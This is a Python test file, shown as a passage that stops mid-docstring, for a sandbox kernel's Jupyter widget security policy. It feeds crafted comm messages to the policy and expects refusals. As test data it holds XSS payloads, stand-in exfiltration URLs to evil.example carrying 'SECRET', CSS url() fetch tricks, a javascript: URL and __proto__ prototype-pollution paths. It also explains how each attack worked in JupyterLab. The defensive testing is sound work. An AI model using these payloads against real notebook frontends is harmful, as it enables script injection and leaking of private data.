"""Attacks on the widget policy (outputs/widgets.py) through what the frontend
builds from a state, not what the state says it is: the VIEW that renders a
model, non-text HTML values, names that reach the error widget's HTML,
``update_states`` entries naming another model, and fetches once private.

Each attack is the message a cell can send (raw comm frames, or ipywidgets'
public API, which sends the same); every test failed before the fix.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from sandbox_kernel.outputs.widgets import WidgetComms, WidgetRefused

CONTROLS = "@jupyter-widgets/controls"
BASE = "@jupyter-widgets/base"
OUTPUT = "@jupyter-widgets/output"
XSS = "<img src=x onerror=alert(1)>"


def state(model: str = "LabelModel", module: str = CONTROLS, **extra: Any) -> dict[str, Any]:
    return {
        "_model_module": module,
        "_model_module_version": "2.0.0",
        "_model_name": model,
        "_view_module": module,
        "_view_module_version": "2.0.0",
        "_view_name": model.replace("Model", "View"),
        **extra,
    }


def open_msg(comm_id: str, st: Any, paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"state": st, "buffer_paths": paths or []}
    return {
        "msg_type": "comm_open",
        "content": {"comm_id": comm_id, "target_name": "jupyter.widget", "data": data},
        "metadata": {"version": "2.1.0"},
    }


def update_msg(comm_id: str, st: dict[str, Any], paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"method": "update", "state": st, "buffer_paths": paths or []}
    return {"msg_type": "comm_msg", "content": {"comm_id": comm_id, "data": data}, "metadata": {}}


def sent_state(w: WidgetComms, msg: dict[str, Any], buffers: list[bytes] | None = None, **kw: Any) -> dict[str, Any]:
    out = w.from_sandbox(msg, buffers or [], private=kw.get("private", False))
    return dict(out.content["data"]["state"])


# ---- 1. the view decides what renders as HTML ---------------------------------------------


@pytest.mark.parametrize("view", ["HTMLView", "HTMLMathView"])
def test_a_label_cannot_be_shown_by_an_html_view_at_open(view: str) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match=f"LabelModel is shown by LabelView, not by {view}"):
        w.from_sandbox(open_msg("v1", state(_view_name=view, value=XSS)), [], private=False)
    assert not w.owns("v1")


def test_a_label_cannot_switch_to_an_html_view_later() -> None:
    """ipywidgets' public API: ``lbl._view_name = "HTMLView"`` after the
    Label's comm_open carried its raw value."""
    w = WidgetComms()
    assert sent_state(w, open_msg("v2", state(value=XSS)))["value"] == XSS  # text: shown as typed
    with pytest.raises(WidgetRefused, match="not by HTMLView"):
        w.from_sandbox(update_msg("v2", {"_view_name": "HTMLView"}), [], private=False)
    # the refused switch is not remembered: the label stays a label
    assert sent_state(w, update_msg("v2", {"value": XSS}))["value"] == XSS


def test_a_view_is_checked_whatever_order_its_pieces_come_in() -> None:
    w = WidgetComms(modules=["jupyter-matplotlib"])
    # no view at open, then an HTML view
    st = state(value=XSS)
    del st["_view_name"], st["_view_module"]
    w.from_sandbox(open_msg("v3", st), [], private=False)
    with pytest.raises(WidgetRefused, match="not by HTMLView"):
        w.from_sandbox(update_msg("v3", {"_view_module": CONTROLS, "_view_name": "HTMLView"}), [], private=False)
    # a standard model shown by an installed package's own view (custom widgets
    # keep ipywidgets' DOMWidgetModel and bring a view): that package's code is
    # trusted with its own models already, and the value stays text for it
    custom = state("DOMWidgetModel", _view_module="jupyter-matplotlib", _view_name="CanvasView", value=XSS)
    custom["_model_module"] = "@jupyter-widgets/base"
    assert sent_state(w, open_msg("v3b", custom))["_view_name"] == "CanvasView"
    # an installed package's model shown by the standard HTML view
    with pytest.raises(WidgetRefused, match="HTMLView shows only HTML widgets"):
        w.from_sandbox(
            open_msg("v4", state(module="jupyter-matplotlib", _view_module=CONTROLS, _view_name="HTMLView")),
            [],
            private=False,
        )


def test_a_standard_package_has_only_its_own_models() -> None:
    with pytest.raises(WidgetRefused, match="EvilModel is not a widget model of @jupyter-widgets/controls"):
        WidgetComms().from_sandbox(open_msg("v5", state("EvilModel")), [], private=False)


@pytest.mark.parametrize("key", ["_model_module", "_view_module"])
@pytest.mark.parametrize("bad", [[CONTROLS], {"a": CONTROLS}])
def test_a_module_that_is_no_name_is_refused_not_a_crash(key: str, bad: Any) -> None:
    """A list or object does not hash: the check raised TypeError, which the
    session does not catch."""
    with pytest.raises(WidgetRefused, match="not installed"):
        WidgetComms().from_sandbox(open_msg("v7", state(**{key: bad})), [], private=False)


def test_a_widget_names_its_model_when_it_opens() -> None:
    st = {"_model_module": CONTROLS, "value": XSS}
    with pytest.raises(WidgetRefused, match="must name its model"):
        WidgetComms().from_sandbox(open_msg("v6", st), [], private=False)


def test_every_ipywidgets_model_passes_with_its_own_view() -> None:
    """Real widgets keep working: every class ipywidgets defines, with the
    model, view and versions it sends."""
    ipywidgets = pytest.importorskip("ipywidgets")

    def subclasses(cls: type) -> list[type]:
        return [s for c in cls.__subclasses__() for s in [c, *subclasses(c)]]

    w = WidgetComms()
    keys = (
        "_model_module",
        "_model_name",
        "_view_module",
        "_view_name",
        "_model_module_version",
        "_view_module_version",
    )
    classes = [c for c in subclasses(ipywidgets.Widget) if c.__module__.startswith("ipywidgets")]
    assert len(classes) > 50
    for i, cls in enumerate(classes):
        traits = cls.class_traits()
        st = {k: traits[k].default_value for k in keys}
        w.from_sandbox(open_msg(f"w{i}", st), [], private=False)


# ---- 2. what is rendered as HTML must be text -----------------------------------------------


@pytest.mark.parametrize("value", [[XSS], {"a": XSS}, 3])
@pytest.mark.parametrize("model", ["HTMLModel", "HTMLMathModel"])
def test_an_html_value_that_is_not_text_is_refused(model: str, value: Any) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="rendered as HTML and must be text"):
        w.from_sandbox(open_msg("t1", state(model, value=value)), [], private=False)
    w.from_sandbox(open_msg("t2", state(model, value="<b>ok</b>")), [], private=False)
    with pytest.raises(WidgetRefused, match="rendered as HTML and must be text"):
        w.from_sandbox(update_msg("t2", {"value": value}), [], private=False)
    with pytest.raises(WidgetRefused, match="not a binary buffer"):
        w.from_sandbox(update_msg("t2", {}, paths=[["value"]]), [XSS.encode()], private=False)


def test_an_html_description_that_is_not_text_is_refused() -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="description must be text"):
        w.from_sandbox(open_msg("t3", state(description=[XSS], description_allow_html=True)), [], private=False)


# ---- 3. names and versions reach the error widget's HTML ------------------------------------


BAD = [XSS, "<b>x</b>", "a b", "x" * 101, ["LabelView"]]
# an empty version is what ipywidgets sends for a model without a view
NAMES_AND_VERSIONS = [(k, bad) for k in ("_model_name", "_view_name") for bad in [*BAD, ""]] + [
    (k, bad) for k in ("_model_module_version", "_view_module_version") for bad in [*BAD, "1.0&lt;"]
]


@pytest.mark.parametrize(("key", "bad"), NAMES_AND_VERSIONS)
def test_names_and_versions_must_be_plain(key: str, bad: Any) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match=f"widget {key} must be"):
        w.from_sandbox(open_msg("n1", state(**{key: bad})), [], private=False)
    if key != "_model_name":  # the model cannot change anyway
        w.from_sandbox(open_msg("n2", state()), [], private=False)
        with pytest.raises(WidgetRefused, match=f"widget {key} must be"):
            w.from_sandbox(update_msg("n2", {key: bad}), [], private=False)


@pytest.mark.parametrize("version", ["2.0.0", "^1.5.0", "~0.1.0-beta.1", "*", ">=1.0 <2", "1.x", "1.0.0 || 2.0.0", ""])
def test_ordinary_versions_pass(version: str) -> None:
    w = WidgetComms()
    w.from_sandbox(
        open_msg("n3", state(_model_module_version=version, _view_module_version=version)), [], private=False
    )


def test_message_version_with_markup_is_dropped() -> None:
    msg = {**open_msg("n4", state()), "metadata": {"version": "<b>2</b>"}}
    assert WidgetComms().from_sandbox(msg, [], private=False).metadata == {}


# ---- 4. update_states names each model as it was opened -------------------------------------


def _control(w: WidgetComms) -> None:
    w.from_frontend("comm_open", {"comm_id": "ctl", "target_name": "jupyter.widget.control", "data": {}})


def _update_states(states: dict[str, Any], paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"method": "update_states", "states": states, "buffer_paths": paths or []}
    return {"msg_type": "comm_msg", "content": {"comm_id": "ctl", "data": data}, "metadata": {}}


OUTPUTS = [{"output_type": "display_data", "data": {"text/html": XSS}, "metadata": {}}]


@pytest.mark.parametrize(
    ("entry", "st"),
    [
        # the audit's case: an Output entry whose state claims to be a Label
        ({"model_name": "OutputModel", "model_module": OUTPUT}, {"_model_name": "LabelModel"}),
        ({"model_name": "OutputModel", "model_module": OUTPUT}, {}),
        ({"model_name": "LabelModel", "model_module": CONTROLS}, {"_model_name": "OutputModel"}),
        ({"model_name": "LabelModel", "model_module": CONTROLS}, {"_model_module": OUTPUT}),
        ({"model_name": "LabelModel", "model_module": OUTPUT}, {}),
    ],
)
def test_update_states_entries_must_name_the_model_as_opened(entry: dict[str, Any], st: dict[str, Any]) -> None:
    w = WidgetComms()
    _control(w)
    w.from_sandbox(open_msg("u1", state(value="x")), [], private=False)
    states = {"u1": {**entry, "model_module_version": "1.0.0", "state": {**st, "outputs": OUTPUTS}}}
    out = w.from_sandbox(_update_states(states), [], private=False)
    assert out.content["data"]["states"] == {}
    assert any("u1" in n and "left out" in n for n in out.notes)


def test_update_states_cleans_with_the_models_own_name() -> None:
    w = WidgetComms()
    _control(w)
    w.from_sandbox(open_msg("u2", state("OutputModel", module=OUTPUT)), [], private=False)
    w.from_sandbox(open_msg("u3", state("HTMLModel", value="ok")), [], private=False)
    states = {
        "u2": {"model_name": "OutputModel", "model_module": OUTPUT, "state": {"outputs": OUTPUTS}},
        "u3": {
            "model_name": "HTMLModel",
            "model_module": CONTROLS,
            "model_module_version": "2.0.0",
            "state": {"value": XSS},
        },
    }
    out = w.from_sandbox(_update_states(states), [], private=False)
    kept = out.content["data"]["states"]
    assert "onerror" not in json.dumps(kept) and set(kept) == {"u2", "u3"}
    assert kept["u2"]["model_name"] == "OutputModel" and kept["u2"]["model_module_version"] == ""
    bad_version = {"u3": {**states["u3"], "model_module_version": XSS}}
    assert w.from_sandbox(_update_states(bad_version), [], private=False).content["data"]["states"] == {}
    # a view switch inside update_states is checked like any other
    switch = {"u3": {**states["u3"], "state": {"_view_name": "LabelView", "value": "ok"}}}
    assert w.from_sandbox(_update_states(switch), [], private=False).content["data"]["states"] == {}


# ---- 5. once private, widgets fetch nothing -------------------------------------------------


@pytest.mark.parametrize("model", ["ImageModel", "VideoModel", "AudioModel"])
@pytest.mark.parametrize("url", [b"https://evil.example/x?d=SECRET", b"//evil.example/a.mp3", b" \thttps://e.example"])
def test_a_media_url_loads_nothing_once_private(model: str, url: bytes) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="cannot load external URL"):
        w.from_sandbox(open_msg("p1", state(model, format="url"), [["value"]]), [url], private=True)
    # public sessions may load images from the web, as <img src> may
    w.from_sandbox(open_msg("p2", state(model, format="url"), [["value"]]), [url], private=False)
    # a data: image loads nothing
    w.from_sandbox(
        open_msg("p3", state(model, format="url"), [["value"]]), [b"data:image/png;base64,AA=="], private=True
    )


def test_a_media_url_cannot_come_in_pieces_once_private() -> None:
    w = WidgetComms()
    w.from_sandbox(
        open_msg("p4", state("ImageModel", format="png"), [["value"]]), [b"https://e.example/x"], private=False
    )
    with pytest.raises(WidgetRefused, match="loads no URL"):  # the value already sent would load
        w.from_sandbox(update_msg("p4", {"format": "url"}), [], private=True)
    w.from_sandbox(open_msg("p5", state("ImageModel", format="png"), [["value"]]), [b"\x89PNG"], private=False)
    with pytest.raises(WidgetRefused, match="cannot load external URL"):
        w.from_sandbox(update_msg("p5", {"format": "url"}, paths=[["value"]]), [b"https://e.example/y"], private=True)
    with pytest.raises(WidgetRefused, match="javascript: URL"):
        w.from_sandbox(update_msg("p5", {"format": "url"}, paths=[["value"]]), [b"javascript:alert(1)"], private=False)
    w.from_sandbox(update_msg("p5", {"format": "png"}, paths=[["value"]]), [b"\x89PNG"], private=True)
    # switched to url while public, p4's frontend model would load the value
    # already sent in any view: once private it is neither shown nor changed
    w.from_sandbox(update_msg("p4", {"format": "url"}), [], private=False)
    with pytest.raises(WidgetRefused, match="made while the session was public"):
        w.from_sandbox(update_msg("p4", {"format": "png"}, paths=[["value"]]), [b"\x89PNG"], private=True)
    with pytest.raises(WidgetRefused, match="made while the session was public"):
        w.from_sandbox(update_msg("p4", {}), [], private=True)
    with pytest.raises(WidgetRefused, match="made while the session was public"):
        w.view({"model_id": "p4"}, private=True)
    assert w.view({"model_id": "p4"}, private=False) == {"model_id": "p4", "version_major": 2, "version_minor": 0}


def _fetches(css: str | None) -> bool:
    """Whether a CSS value still names something to load from evil.example."""
    low = (css or "").lower()
    return "evil" in low and any(f in low for f in ("url(", "image-set(", "image("))


@pytest.mark.parametrize(
    "css",
    [
        "url(//evil.example/bg?d=SECRET)",
        "url(https\\3a //evil.example/bg2)",
        "u\\72l(https://evil.example/x)",
        "image-set('https://evil.example/x' 1x)",
        "red url('https://evil.example/x')",
    ],
)
@pytest.mark.parametrize(("model", "module"), [("HTMLStyleModel", CONTROLS), ("LayoutModel", BASE)])
def test_style_values_fetch_nothing_once_private(model: str, module: str, css: str) -> None:
    w = WidgetComms()
    st = state(
        model, module=module, _view_module=BASE, _view_name="LayoutView" if model == "LayoutModel" else "StyleView"
    )
    sent = sent_state(w, open_msg("s1", {**st, "background": css, "font_size": "12px"}), private=True)
    assert not _fetches(sent["background"]) and sent["font_size"] == "12px"
    again = sent_state(w, update_msg("s1", {"background": css}), private=True)
    assert not _fetches(again["background"])
    with pytest.raises(WidgetRefused, match=r"style value 'background'.*must be text"):
        w.from_sandbox(update_msg("s1", {"background": [css]}), [], private=True)


def test_style_values_keep_ordinary_css() -> None:
    st = state("ButtonStyleModel", _view_module=BASE, _view_name="StyleView", button_color="lightgreen")
    sent = sent_state(WidgetComms(), open_msg("s2", {**st, "font_weight": "bold", "background": "#fff"}), private=True)
    assert (sent["button_color"], sent["font_weight"], sent["background"]) == ("lightgreen", "bold", "#fff")


@pytest.mark.parametrize("flag", [1, "yes", [], {}, 0.5])
def test_a_truthy_allow_html_is_html(flag: Any) -> None:
    """JavaScript tests ``description_allow_html`` for truthiness."""
    w = WidgetComms()
    sent = sent_state(
        w, open_msg("h1", state(description=XSS + '<img src="//evil.example/d">', description_allow_html=flag))
    )
    assert sent["description_allow_html"] is True and "onerror" not in sent["description"]
    # (h1 holds an image address sent while public: once private it is not changed any more)
    sent_state(w, open_msg("h1p", state(description="plain", description_allow_html=flag)))
    private = sent_state(w, update_msg("h1p", {"description": '<img src="//evil.example/d">'}), private=True)
    assert "evil.example/d" not in private["description"]


@pytest.mark.parametrize("flag", [0, "", None, False])
def test_a_falsy_allow_html_is_text(flag: Any) -> None:
    sent = sent_state(WidgetComms(), open_msg("h2", state(description=XSS, description_allow_html=flag)))
    assert sent["description_allow_html"] is False and sent["description"] == XSS


def test_refusals_quote_no_link_once_private() -> None:
    """A refusal quotes what the sandbox sent, and the user reads it as stream
    text: once private, the quote must not be a link to click."""
    w = WidgetComms()
    with pytest.raises(WidgetRefused) as refused:
        w.from_sandbox(open_msg("q1", state(_view_name="https://evil.example/?d=SECRET")), [], private=True)
    assert "evil.example" in str(refused.value) and "https://" not in str(refused.value)
    with pytest.raises(WidgetRefused, match="https://"):  # public: quoted as sent
        w.from_sandbox(open_msg("q1", state(_view_name="https://evil.example/")), [], private=False)


# ---- 6. buffers go only where ipywidgets took one out -----------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        ["__proto__", "trusted"],
        ["constructor", "assign"],
        ["value", "constructor", "prototype", "trim"],
        ["prototype"],
        ["description"],  # a value the state holds would be replaced by a buffer
        ["items", 0],  # a list entry that is not a hole
        ["items", 7],
        ["items", True],
        ["layout", "x"],  # through a string
        ["missing", "x"],
        [],
    ],
)
def test_a_buffer_path_cannot_reach_the_pages_prototypes(path: list[Any]) -> None:
    """The frontend's ``put_buffers`` walks each path with ``o = o[key]``:
    ``["__proto__", "trusted"]`` set ``Object.prototype.trusted`` in the Lab
    page, and Lab then rendered every markdown as trusted (an attack review)."""
    w = WidgetComms()
    st = state(description="d", value="v", items=["a", None], layout="IPY_MODEL_x")
    with pytest.raises(WidgetRefused, match="buffer"):  # (a description's own rule may say it first)
        w.from_sandbox(open_msg("b1", st, [path]), [b"x"], private=False)
    w.from_sandbox(open_msg("b2", state()), [], private=False)
    with pytest.raises(WidgetRefused, match="buffer"):
        w.from_sandbox(update_msg("b2", {"value": "v", "items": ["a", None]}, [path]), [b"x"], private=False)
    _control(w)
    entry = {"model_name": "LabelModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": st}
    for bad in (["b2", "state", *path], ["b2", "__proto__", *path]):
        try:
            out = w.from_sandbox(_update_states({"b2": entry}, [bad]), [b"x"], private=False)
        except WidgetRefused as exc:
            assert "buffer path" in str(exc)
        else:  # the model was left out for its own reason, and its buffer with it
            assert out.content["data"]["buffer_paths"] == [] and out.buffers == [], out


def test_the_buffer_paths_ipywidgets_makes_still_pass() -> None:
    """ipywidgets deletes a bytes value from its object and puts None in its
    place in a list (``_separate_buffers``): those places take buffers."""
    w = WidgetComms()
    st = state("ImageModel", data={"x": {"dtype": "f8"}, "rows": [None, {"k": 1}]})
    paths = [["value"], ["data", "x", "buffer"], ["data", "rows", 0]]
    out = w.from_sandbox(open_msg("ok1", st, paths), [b"1", b"2", b"3"], private=False)
    assert out.content["data"]["buffer_paths"] == paths and out.buffers == [b"1", b"2", b"3"]
    w.from_sandbox(update_msg("ok1", {}, [["value"]]), [b"4"], private=False)
    _control(w)
    entry = {"model_name": "ImageModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": {}}
    out = w.from_sandbox(_update_states({"ok1": entry}, [["ok1", "state", "value"]]), [b"5"], private=False)
    assert out.content["data"]["buffer_paths"] == [["ok1", "state", "value"]]


# ---- 7. widgets made while public are not shown once private ------------------------------


def test_widgets_holding_addresses_from_public_days_are_not_shown_once_private() -> None:
    """Made while public and never shown, a widget with an image address
    fetches when a view of it is made: a private cell showing widget 5 of 8
    told a server 5 (an attack review). Once private, such a widget is not
    shown, named by another widget's state, or changed; widgets without
    anything to fetch go on as before."""
    w = WidgetComms()
    w.from_sandbox(open_msg("img", state("HTMLModel", value='<img src="//evil.example/5">')), [], private=False)
    w.from_sandbox(
        open_msg("pic", state("ImageModel", format="url"), [["value"]]), [b"//evil.example/6"], private=False
    )
    w.from_sandbox(open_msg("sld", state("IntSliderModel", value=3, description="speed")), [], private=False)
    w.from_sandbox(open_msg("box", state("VBoxModel", children=[])), [], private=False)
    for model in ("img", "pic"):
        with pytest.raises(WidgetRefused, match="made while the session was public"):
            w.view({"model_id": model}, private=True)
        with pytest.raises(WidgetRefused, match="made while the session was public"):
            w.from_sandbox(update_msg("box", {"children": [f"IPY_MODEL_{model}"]}), [], private=True)
        with pytest.raises(WidgetRefused, match="made while the session was public"):
            w.from_sandbox(update_msg(model, {"description": "x"}), [], private=True)
        assert w.view({"model_id": model}, private=False) is not None  # (while public they show)
    # a model of no live comm (a replaced sandbox's) cannot be named once private
    with pytest.raises(WidgetRefused, match="not one of this sandbox"):
        w.from_sandbox(open_msg("box2", state("VBoxModel", children=["IPY_MODEL_gone"])), [], private=True)
    # the slider and the box had nothing to fetch: they show, change and nest
    assert w.view({"model_id": "sld"}, private=True) == {"model_id": "sld", "version_major": 2, "version_minor": 0}
    assert sent_state(w, update_msg("sld", {"value": 4}), private=True) == {"value": 4}
    assert sent_state(w, update_msg("box", {"children": ["IPY_MODEL_sld"]}), private=True) == {
        "children": ["IPY_MODEL_sld"]
    }
    # made once private, a widget is cleaned as private and so shows
    w.from_sandbox(open_msg("img2", state("HTMLModel", value='<img src="//evil.example/7">')), [], private=True)
    assert w.view({"model_id": "img2"}, private=True) is not None
    w.from_sandbox(update_msg("box", {"children": ["IPY_MODEL_img2"]}), [], private=True)


# ---- 8. prototypes, links, buffers that decide rendering, armed children ---------------------
# (an attack review confirmed each in a plain JupyterLab with Chromium)

HTML_VIEW_PROTO = {"_view_name": "HTMLView", "_view_module": CONTROLS, "_view_module_version": "2.0.0", "value": XSS}


def _custom_msg(comm_id: str, content: Any) -> dict[str, Any]:
    data = {"method": "custom", "content": content}
    return {"msg_type": "comm_msg", "content": {"comm_id": comm_id, "data": data}, "metadata": {}}


@pytest.mark.parametrize("private", [False, True])
@pytest.mark.parametrize("key", ["__proto__", "constructor", "prototype"])
def test_prototype_keys_are_refused_at_any_depth(key: str, private: bool) -> None:
    """``JSON.parse`` keeps ``"__proto__"`` as an own key and ipywidgets assigns
    it (``s["__proto__"] = value``): a Layout model inherited ``_view_name:
    "HTMLView"`` and a ``value`` with a script, and its view ran it."""
    w = WidgetComms()
    layout = {k: v for k, v in state("LayoutModel", BASE).items() if not k.startswith("_view")}
    for st in (
        {**layout, key: HTML_VIEW_PROTO},
        state("HTMLStyleModel", _view_name="StyleView", _view_module=BASE, **{key: {"background": "url(//e/x)"}}),
        state(value="v", items=[{"a": {key: 1}}]),
    ):
        with pytest.raises(WidgetRefused, match=f"may not hold a key '{key}'"):
            w.from_sandbox(open_msg("p1", st), [], private=private)
        assert not w.owns("p1")
    w.from_sandbox(open_msg("p2", state()), [], private=private)
    for msg in (
        update_msg("p2", {key: {"value": XSS}}),
        update_msg("p2", {"value": "v", "x": [[{key: {}}]]}),
        _custom_msg("p2", {"a": [{key: 1}]}),
        {"msg_type": "comm_msg", "content": {"comm_id": "p2", "data": {"method": "echo_update", "state": {key: {}}}}},
    ):
        with pytest.raises(WidgetRefused, match=f"may not hold a key '{key}'"):
            w.from_sandbox(msg, [], private=private)
    _control(w)
    entry = {"model_name": "LabelModel", "model_module": CONTROLS, "model_module_version": "2.0.0"}
    for states in ({"p2": {**entry, "state": {key: HTML_VIEW_PROTO}}}, {key: {**entry, "state": {}}}):
        with pytest.raises(WidgetRefused, match=f"may not hold a key '{key}'"):
            w.from_sandbox(_update_states(states), [], private=private)
    # the same values as plain keys pass
    assert sent_state(w, update_msg("p2", {"value": "v", "proto": {"x": 1}}), private=private)["proto"] == {"x": 1}


def test_style_values_under_underscore_keys_are_cleaned_too() -> None:
    """Only the identity keys of a style model are no CSS: any other key is
    cleaned as CSS, whatever its name."""
    w = WidgetComms()
    st = state("HTMLStyleModel", _view_name="StyleView", _view_module=BASE, _background="url(//evil.example/x)")
    out = sent_state(w, open_msg("s1", st))
    assert "evil" not in json.dumps(out) and out["_view_name"] == "StyleView"
    layout = {**state("LayoutModel", BASE, _view_name="LayoutView"), "_dom_classes": [], "_view_count": None}
    out = sent_state(w, open_msg("s2", {**layout, "_width": "url(//evil.example/y)", "width": "10px"}))
    assert "evil" not in json.dumps(out) and out["width"] == "10px"


def _link(source: tuple[str, str], target: tuple[str, str], model: str = "LinkModel") -> dict[str, Any]:
    return {
        "_model_module": CONTROLS,
        "_model_module_version": "2.0.0",
        "_model_name": model,
        "_view_module": CONTROLS,
        "_view_module_version": "2.0.0",
        "_view_name": None,
        "source": [f"IPY_MODEL_{source[0]}", source[1]],
        "target": [f"IPY_MODEL_{target[0]}", target[1]],
    }


def _linkable(w: WidgetComms, private: bool) -> None:
    for cid, st in {
        "txt": state("TextModel", value=XSS, description="t"),
        "txt2": state("TextModel", value="b"),
        "sld": state("IntSliderModel", value=3),
        "sld2": state("IntSliderModel", value=4),
        "html": state("HTMLModel", value=""),
        "math": state("HTMLMathModel", value=""),
        "img": state("ImageModel", format="png"),
        "out": state("OutputModel", OUTPUT, outputs=[]),
        "sty": state("HTMLStyleModel", _view_name="StyleView", _view_module=BASE),
        "lay": state("LayoutModel", BASE, _view_name="LayoutView"),
        "box": state("VBoxModel", children=["IPY_MODEL_sld"]),
        "chk": state("CheckboxModel", value=False, description="<b>x</b>"),
    }.items():
        w.from_sandbox(open_msg(cid, st), [], private=private)


@pytest.mark.parametrize("private", [False, True])
@pytest.mark.parametrize("model", ["LinkModel", "DirectionalLinkModel"])
@pytest.mark.parametrize(
    ("source", "target"),
    [
        (("txt", "value"), ("html", "value")),  # the review's case: the Text's markup ran in the HTML
        (("html", "value"), ("txt", "value")),  # jslink copies both ways
        (("txt", "value"), ("math", "value")),
        (("txt", "value"), ("chk", "description")),
        (("sld", "value"), ("chk", "description_allow_html")),
        (("txt", "value"), ("img", "format")),
        (("txt", "value"), ("img", "value")),
        (("txt", "value"), ("sty", "background")),  # into a style or a layout: CSS the host never saw
        (("txt", "value"), ("lay", "width")),
        (("txt", "value"), ("out", "outputs")),
        (("txt", "value"), ("chk", "_view_name")),
        (("txt", "value"), ("chk", "layout")),
        (("box", "children"), ("box", "children")),
        (("txt", "value"), ("gone", "value")),  # not a model of this sandbox
    ],
)
def test_a_link_joins_only_plain_values(
    source: tuple[str, str], target: tuple[str, str], model: str, private: bool
) -> None:
    """``jslink((Text(value=XSS), 'value'), (HTML(), 'value'))``: the page
    copied the Text's uncleaned value into the HTML's ``innerHTML``."""
    w = WidgetComms()
    _linkable(w, private)
    with pytest.raises(WidgetRefused, match="link"):
        w.from_sandbox(open_msg("l1", _link(source, target, model)), [], private=private)
    assert not w.owns("l1")
    # nor by moving an end of a plain link later
    w.from_sandbox(open_msg("l2", _link(("sld", "value"), ("sld2", "value"), model)), [], private=private)
    with pytest.raises(WidgetRefused, match="link"):
        w.from_sandbox(
            update_msg("l2", {k: v for k, v in _link(source, target).items() if k in ("source", "target")}),
            [],
            private=private,
        )
    _control(w)
    entry = {"model_name": model, "model_module": CONTROLS, "model_module_version": "2.0.0"}
    out = w.from_sandbox(_update_states({"l2": {**entry, "state": _link(source, target, model)}}), [], private=private)
    assert out.content["data"]["states"] == {}


@pytest.mark.parametrize("private", [False, True])
def test_links_between_sliders_and_texts_still_work(private: bool) -> None:
    w = WidgetComms()
    _linkable(w, private)
    for i, (source, target) in enumerate(
        [
            (("sld", "value"), ("sld2", "value")),
            (("sld", "value"), ("txt2", "value")),
            (("txt", "value"), ("txt2", "value")),
            (("sld", "max"), ("sld2", "min")),
        ]
    ):
        out = sent_state(w, open_msg(f"ok{i}", _link(source, target)), private=private)
        assert out["source"] == [f"IPY_MODEL_{source[0]}", source[1]]


def test_a_linked_custom_widget_cannot_become_an_image() -> None:
    """A custom model shown by a controls view: once linked, it cannot switch to
    a view the link rule refuses (the copied text would be an image URL)."""
    w = WidgetComms(modules=["custom-pkg"])
    w.from_sandbox(open_msg("c1", state("FooModel", "custom-pkg", _view_name=None)), [], private=False)
    w.from_sandbox(open_msg("t1", state("TextModel", value="//evil.example/x")), [], private=False)
    w.from_sandbox(open_msg("l1", _link(("t1", "value"), ("c1", "value"))), [], private=False)
    with pytest.raises(WidgetRefused, match="linked"):
        w.from_sandbox(update_msg("c1", {"_view_module": CONTROLS, "_view_name": "ImageView"}), [], private=False)


@pytest.mark.parametrize(
    "key", ["description_allow_html", "description", "_view_name", "_dom_classes", "layout", "style", "children"]
)
def test_a_buffer_cannot_go_where_the_policy_reads_what_to_render(key: str) -> None:
    """A buffer at ``description_allow_html`` is a truthy DataView in the page:
    the description the host sent as text became HTML."""
    w = WidgetComms()
    st = state("CheckboxModel", value=False)
    st["description"] = '<img src="//evil.example/d">' if key != "description" else None
    if key == "description":
        del st["description"]
    with pytest.raises(WidgetRefused, match="buffer"):
        w.from_sandbox(open_msg("d1", st, [[key]]), [b"\x01"], private=False)
    w.from_sandbox(open_msg("d2", state("CheckboxModel", value=False)), [], private=False)
    with pytest.raises(WidgetRefused, match="buffer"):
        w.from_sandbox(update_msg("d2", {}, [[key]]), [b"\x01"], private=False)
    # any key of a style or layout model, and of a link
    sty = state("HTMLStyleModel", _view_name="StyleView", _view_module=BASE)
    with pytest.raises(WidgetRefused, match="buffer"):
        w.from_sandbox(open_msg("d3", sty, [["background"]]), [b"red"], private=False)
    _control(w)
    entry = {"model_name": "CheckboxModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": {}}
    out = w.from_sandbox(_update_states({"d2": entry}, [["d2", "state", key]]), [b"\x01"], private=False)
    assert out.content["data"]["states"] == {} and out.buffers == []


def test_a_box_made_public_around_an_armed_widget_is_not_shown_once_private() -> None:
    """The Box held no text, so it was not armed itself; shown once private, it
    showed its armed child, which fetched. Followed transitively, cycles too."""
    w = WidgetComms()
    w.from_sandbox(open_msg("h5", state("HTMLModel", value='<img src="//evil.example/5">')), [], private=False)
    w.from_sandbox(open_msg("sld", state("IntSliderModel", value=1)), [], private=False)
    w.from_sandbox(open_msg("bx", state("VBoxModel", children=["IPY_MODEL_sld", "IPY_MODEL_h5"])), [], private=False)
    w.from_sandbox(open_msg("outer", state("HBoxModel", children=["IPY_MODEL_bx"])), [], private=False)
    w.from_sandbox(open_msg("cyc", state("HBoxModel", children=["IPY_MODEL_outer"])), [], private=False)
    w.from_sandbox(update_msg("outer", {"children": ["IPY_MODEL_bx", "IPY_MODEL_cyc"]}), [], private=False)
    assert not w._comms["bx"].armed
    for model in ("bx", "outer", "cyc"):
        assert w.view({"model_id": model}, private=False) is not None
        with pytest.raises(WidgetRefused, match="made while the session was public"):
            w.view({"model_id": model}, private=True)
        with pytest.raises(WidgetRefused, match="made while the session was public"):
            w.from_sandbox(
                open_msg(f"new-{model}", state("VBoxModel", children=[f"IPY_MODEL_{model}"])), [], private=True
            )
    # the latest value of each key counts: the armed child taken out, the box shows
    w.from_sandbox(update_msg("bx", {"children": ["IPY_MODEL_sld"]}), [], private=False)
    assert w.view({"model_id": "outer"}, private=True) is not None
    # a layout or a style is followed too
    w.from_sandbox(open_msg("sl2", state("IntSliderModel", value=1, layout="IPY_MODEL_bx")), [], private=False)
    w.from_sandbox(update_msg("bx", {"children": ["IPY_MODEL_h5"]}), [], private=False)
    with pytest.raises(WidgetRefused, match="made while the session was public"):
        w.view({"model_id": "sl2"}, private=True)


def test_a_link_made_public_arms_what_it_copied_an_armed_value_into() -> None:
    """A Label whose value private cleaning changes (a link to another host;
    math that fetches is disarmed in every session now), linked while public
